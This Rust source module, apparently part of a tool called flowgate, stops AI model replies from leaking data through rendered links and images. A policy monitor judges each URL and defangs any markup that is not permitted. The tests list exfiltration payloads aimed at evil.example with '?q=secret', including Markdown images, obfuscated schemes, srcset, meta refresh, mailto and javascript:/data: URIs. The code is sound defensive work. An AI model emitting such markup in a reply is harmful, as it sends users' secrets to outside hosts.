//! Addresses in text that leaves: a rendered image or link tells its host whatever stands in the address, without any
//! tool call, and leads whoever follows it to where a stranger wants them.
//!
//! Each address in a reply is judged like a call of the tool `flowgate/link` with the argument `url`, by the label of what the
//! model was shown; so is each in what fills a slot, by the label of the regions that it was filled from. If all that could
//! lead anywhere is permitted, the text stays as it is. Otherwise it is *flattened*:
//! what a renderer of Markdown or HTML could make a link, an image or an element of is broken apart, in a way that people
//! still can read (`hxxps://`, `] (`). Which of the many forms a renderer knows is not for us to guess.
//!
//! A policy that says nothing of `flowgate/link` lets only what is trusted and public altogether lead anywhere; one without
//! lattices lets everything.

use flowgate::detect::markup;
use flowgate::label::Label;
use flowgate::monitor::{Attribution, Monitor, Verdict};
use flowgate::trace::{Body, Call, Entry, Tool};
use serde_json::{Map, Value};

/// How many addresses of one text are judged; one with more is flattened.
const MAX_JUDGED: usize = 200;

/// An address that no policy names: whether it may stand in a text says whether any may.
const ANY: &str = "https://address.invalid/";

/// A text that leads only where it may, and the addresses that it does not lead to any more.
pub(crate) fn disarm(
    monitor: &mut Monitor,
    method: &'static str,
    text: &str,
    label: Label,
    next_id: &mut usize,
) -> (String, Vec<String>) {
    if !could_lead(text) || is_permitted(monitor, method, ANY, label, next_id) {
        return (text.to_owned(), Vec::new());
    }
    let found = markup::parse(text);
    let mut urls: Vec<String> = found.links.into_iter().chain(found.images).map(|link| link.url).collect();
    urls.sort();
    urls.dedup();
    let mut forbidden = Vec::new();
    for (index, url) in urls.iter().enumerate() {
        if index >= MAX_JUDGED || !is_permitted(monitor, method, url, label, next_id) {
            forbidden.push(url.clone());
        }
    }
    if forbidden.is_empty() && !is_odd(text, &urls) {
        return (text.to_owned(), Vec::new());
    }
    if forbidden.is_empty() {
        forbidden.push("markup".to_owned());
    }
    (flat(text), forbidden)
}

/// What the model says, as far as it may be shown while it is being written: as it stands, whatever follows.
#[derive(Debug)]
pub(crate) struct Live {
    /// Whether all addresses are permitted.
    any: bool,
    text: String,
    shown: usize,
    is_closed: bool,
}

impl Live {
    pub(crate) fn new(monitor: &Monitor, label: &Label) -> Self {
        let any = monitor.permits_any(&Tool::of(Tool::OWN, "link"), label);
        Self { any, text: String::new(), shown: 0, is_closed: false }
    }

    /// What may be shown besides, now that there is more.
    pub(crate) fn more(&mut self, piece: &str) -> &str {
        self.text.push_str(piece);
        let from = self.shown;
        let end = if self.any {
            self.text.len()
        } else {
            // What could become a sign of something that leads somewhere waits for what comes next.
            let waits = self.text.char_indices().rev().nth(LONGEST_SIGN - 1).map_or(0, |(at, _)| at);
            let rest = self.text.get(from..).unwrap_or_default();
            let clear = if self.is_closed { 0 } else { same(rest) };
            // From where it is broken apart, it may be so to the end.
            self.is_closed |= clear < rest.len();
            waits.min(from + clear)
        };
        self.shown = end.max(from);
        self.text.get(from..self.shown).unwrap_or_default()
    }

    /// Whether something has been shown that cannot be taken back.
    pub(crate) fn has_begun(&self) -> bool {
        self.shown > 0
    }
}

/// The longest sign that is broken apart, in characters.
const LONGEST_SIGN: usize = 8;

/// How much of a text stays as it is when it is flattened.
fn same(text: &str) -> usize {
    let flat = flat(text);
    let both = text.char_indices().zip(flat.chars());
    both.take_while(|((_, a), b)| a == b).map(|((at, a), _)| at + a.len_utf8()).last().unwrap_or(0)
}

/// The same for every text in a value.
pub(crate) fn disarm_value(
    monitor: &mut Monitor,
    method: &'static str,
    value: &mut Value,
    label: Label,
    next_id: &mut usize,
) -> Vec<String> {
    match value {
        Value::String(text) => {
            let (flat, forbidden) = disarm(monitor, method, text, label, next_id);
            *text = flat;
            forbidden
        }
        Value::Array(items) => {
            let each = items.iter_mut().map(|item| disarm_value(monitor, method, item, label, next_id));
            each.flatten().collect()
        }
        Value::Object(entries) => {
            let taken = std::mem::take(entries);
            let mut forbidden = Vec::new();
            for (key, mut value) in taken {
                let (key, more) = disarm(monitor, method, &key, label, next_id);
                forbidden.extend(more);
                forbidden.extend(disarm_value(monitor, method, &mut value, label, next_id));
                entries.insert(key, value);
            }
            forbidden
        }
        _ => Vec::new(),
    }
}

/// Whether a renderer could make anything of the text that leads somewhere.
fn could_lead(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let signs = ["://", "](", "][", "]:", "<", "www.", "//", "\\\\", "mailto:", "ftp:"];
    signs.iter().any(|sign| lower.contains(sign))
}

/// Whether the text has forms that are not plain addresses and links: what reads them otherwise than we do would follow them.
fn is_odd(text: &str, urls: &[String]) -> bool {
    let lower = text.to_ascii_lowercase();
    let is_link = |rest: &str| {
        urls.iter().any(|url| rest.strip_prefix(url.as_str()).is_some_and(|after| after.starts_with(')')))
    };
    lower.contains('<')
        || ["www.", "][", "]:", "mailto:", "ftp:"].iter().any(|sign| lower.contains(sign))
        || lower.contains('\\')
        || lower.contains('`')
        || lower.contains("](") && text.split("](").skip(1).any(|rest| !is_link(rest))
        || lower.split("//").skip(1).count() != lower.split("://").skip(1).count()
}

/// The text with everything broken apart that could be a link, an image or an element.
fn flat(text: &str) -> String {
    let mut flat = String::with_capacity(text.len() + 16);
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        let starts = |sign: &str| rest.get(..sign.len()).is_some_and(|head| head.eq_ignore_ascii_case(sign));
        let (taken, written) = if starts("https://") {
            (8, "hxxps://")
        } else if starts("http://") {
            (7, "hxxp://")
        } else if starts("http") {
            (4, if rest.starts_with('H') { "HXXP" } else { "hxxp" })
        } else if starts("www.") {
            (4, "www .")
        } else if starts("](") {
            (2, "] (")
        } else if starts("][") {
            (2, "] [")
        } else if starts("]:") {
            (2, "] :")
        } else if starts("//") {
            (2, "/ /")
        } else if starts("mailto:") {
            (7, "mailto :")
        } else if starts("ftp:") {
            (4, "ftp :")
        } else if c == '<' {
            (1, "‹")
        } else if c == '\\' || c == '`' {
            (1, "'")
        } else if c.is_control() && c != '\n' {
            (c.len_utf8(), " ")
        } else {
            flat.push(c);
            rest = rest.get(c.len_utf8()..).unwrap_or_default();
            continue;
        };
        flat.push_str(written);
        rest = rest.get(taken..).unwrap_or_default();
    }
    flat
}

fn is_permitted(
    monitor: &mut Monitor,
    method: &'static str,
    url: &str,
    label: Label,
    next_id: &mut usize,
) -> bool {
    let mut arguments = Map::new();
    arguments.insert("url".to_owned(), Value::String(url.to_owned()));
    *next_id += 1;
    let tool = Tool::of(Tool::OWN, "link");
    let call = Call { id: format!("link{next_id}"), tool, arguments: Ok(arguments) };
    let verdict = monitor.judge_entry(Entry::from(Body::Call(call)), Attribution::view(method, label, 0));
    matches!(verdict, Verdict::Permit(_))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_could_lead_somewhere_stays() {
        for text in [
            r"![x](https\://evil.example/?q=secret)",
            r"![x](/\evil.example/?q=secret)",
            r"![x](\//evil.example/?q=secret)",
            "![`]`](//evil.example/?q=secret)",
            "<img src=\"ht\ttps://evil.example/?q=secret\">",
            "<img src=\"&#104ttps://evil.example/\">",
            "<img srcset=\"a.png 1x, //evil.example/ 2x\">",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "www.evil.example/?q=secret",
            "[x](mailto:eve@evil.example?body=secret)",
            "[x](javascript:alert)",
            "![x](data:text/html,x)",
            "![x](<https://good.example/go ?q=secret>)",
            "[x][y]\n\n[y]: //evil.example",
            "[y]\n\n[y]: //evil.example",
            "HTTPS://EVIL.example",
        ] {
            let flat = flat(text);
            assert!(markup::parse(&flat).links.is_empty(), "{flat}");
            assert!(markup::parse(&flat).images.is_empty(), "{flat}");
            let lower = flat.to_ascii_lowercase();
            let lower = lower.replace("hxxp://", "").replace("hxxps://", "");
            for sign in ["](", "]:", "<", "www.e", "http", "//", "\\", "`", "\t"] {
                assert!(!lower.contains(sign), "{sign} in {flat}");
            }
            assert!(could_lead(text), "{text}");
        }
    }

    /// Whatever is shown early is how the text begins in the end, flattened or not, in whatever pieces it comes.
    #[test]
    fn what_is_shown_early_stays() {
        for text in [
            "nothing leads anywhere here, and all but the end may be shown",
            "see https://evil.example/?q=secret and more text behind it",
            "![x](https://evil.example) at the very beginning",
            "a picture ![x](//evil.example/) in the middle of a long text",
            "a < b, and `code`, and a back\\slash, and http without an address",
            "w w ww www www. and h ht htt http https https:",
        ] {
            for size in 1..12 {
                let mut live = Live { any: false, text: String::new(), shown: 0, is_closed: false };
                let mut shown = String::new();
                let letters: Vec<char> = text.chars().collect();
                for piece in letters.chunks(size) {
                    shown.push_str(live.more(&piece.iter().collect::<String>()));
                    assert!(text.starts_with(&shown), "{shown}");
                    assert!(flat(text).starts_with(&shown), "{shown} of {text} in {size}");
                }
            }
        }
        let mut live = Live { any: true, text: String::new(), shown: 0, is_closed: false };
        assert_eq!(live.more("see https://"), "see https://");
        let mut live = Live { any: false, text: String::new(), shown: 0, is_closed: false };
        let plain = "a text without anything that could lead anywhere";
        assert_eq!(live.more(plain), plain.get(..plain.len() - LONGEST_SIGN).unwrap());
    }

    #[test]
    fn plain_links_are_not_odd() {
        let check = |text: &str, expected: bool| {
            let urls = ["https://good.example/1".to_owned()];
            assert_eq!(is_odd(text, &urls), expected, "{text}");
        };
        check("see [it](https://good.example/1) or https://good.example/1.", false);
        check("see [it](https://good.example/1?q=secret)", true);
        check("see [it](<https://good.example/1>)", true);
        check("see //good.example/1", true);
        check("a < b and https://good.example/1", true);
    }
}
